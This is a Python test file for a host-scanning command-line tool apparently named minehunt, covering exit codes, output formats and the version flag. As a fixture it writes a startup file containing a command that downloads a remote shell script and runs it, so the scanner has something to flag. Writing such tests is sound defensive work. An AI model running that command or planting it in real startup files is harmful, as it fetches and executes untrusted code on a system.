"""Exit codes and errors as the README documents them."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import run_cli


def test_usage_errors_exit_2_without_traceback(tmp_path: Path) -> None:
    for args in (
        ("scan", "--format", "yaml"),
        ("scan", "host", "--root", str(tmp_path / "missing")),
        ("scan", "--fail-on", "severe"),
        ("intel", "show", "nonsense"),
        ("intel", "update", "--from", str(tmp_path / "missing.txt")),
    ):
        r = run_cli(*args)
        assert r.code == 2, (args, r.stderr)
        assert "Traceback" not in r.stderr


def test_clean_tree_exits_0_and_findings_exit_1(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    assert run_cli("scan", "host", "--root", str(tmp_path), "-f", "json").code == 0
    (tmp_path / "etc/rc.local").write_text("#!/bin/sh\ncurl http://1.2.3.4/a.sh | sh\n")
    r = run_cli("scan", "host", "--root", str(tmp_path), "-f", "json")
    assert r.code == 1
    assert "1 at or above medium" in r.stderr
    # The same finding is below a higher threshold.
    assert run_cli("scan", "host", "--root", str(tmp_path), "--fail-on", "high").code == 0


def test_output_file_and_formats(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/rc.local").write_text("#!/bin/sh\ncurl http://1.2.3.4/a.sh | sh\n")
    out = tmp_path / "report.sarif"
    r = run_cli("scan", "host", "--root", str(tmp_path), "--format", "sarif", "--output", str(out))
    assert r.code == 1 and r.stdout == ""
    assert '"version": "2.1.0"' in out.read_text()


def test_version() -> None:
    r = run_cli("--version")
    assert r.code == 0 and r.stdout.startswith("minehunt ")
